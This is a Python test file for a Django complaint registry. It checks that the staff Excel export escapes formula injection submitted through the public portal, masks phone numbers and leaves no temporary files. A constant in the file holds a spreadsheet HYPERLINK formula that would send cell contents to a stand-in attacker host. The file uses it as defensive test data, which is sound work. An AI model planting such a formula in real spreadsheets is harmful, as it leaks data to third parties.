"""Registry export: formula injection from the public portal, redacted titles, no files left."""

from __future__ import annotations

import io
import os
import tempfile

import pytest
from django.core.cache import cache
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from xiaobao.complaints.exports import HEADER

pytestmark = pytest.mark.django_db

PHONE = "13912345678"
EVIL = '=HYPERLINK("http://attacker.example/?"&A1,"点击查看")'


@pytest.fixture(autouse=True)
def _fresh_limits():
    cache.clear()
    yield
    cache.clear()


def _file_on_portal(org, title: str) -> None:
    response = Client().post(
        "/portal/file/",
        {
            "role": "self",
            "name": "欧阳娜娜",
            "phone": PHONE,
            "unit": org.outlet_a.pk,
            "title": title,
            "narrative": "理财产品到期后未按时兑付，多次联系无果。",
            "demands": [],
            "consent": "on",
        },
        follow=True,
    )
    assert response.status_code == 200


def _export_rows(client) -> list[tuple]:
    response = client.get(reverse("complaints:export"))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return list(book.active.iter_rows(values_only=True))


def test_portal_title_with_a_formula_is_text_in_the_staff_export(client, org, people):
    _file_on_portal(org, EVIL)
    _file_on_portal(org, f"@SUM(1+1) 联系我{PHONE}")
    client.force_login(people.officer_a)
    rows = _export_rows(client)
    titles = [row[HEADER.index("标题")] for row in rows[1:]]
    assert "'" + EVIL in titles
    assert all(not str(t).startswith(("=", "+", "-", "@")) for t in titles)
    # Free text is redacted like the API: the phone typed in the title is masked.
    assert "'@SUM(1+1) 联系我139****5678" in titles
    assert PHONE not in repr(rows)


def test_export_leaves_no_file_behind(client, org, people, monkeypatch, tmp_path):
    _file_on_portal(org, "信用卡年费争议")
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    client.force_login(people.officer_a)
    response = client.get(reverse("complaints:export"))
    assert os.listdir(tmp_path) == []  # nothing named on disk while the download runs
    body = b"".join(response.streaming_content)
    # (Not response.close(): outside the test client it would end the database connection.)
    assert body.startswith(b"PK")
    assert os.listdir(tmp_path) == []
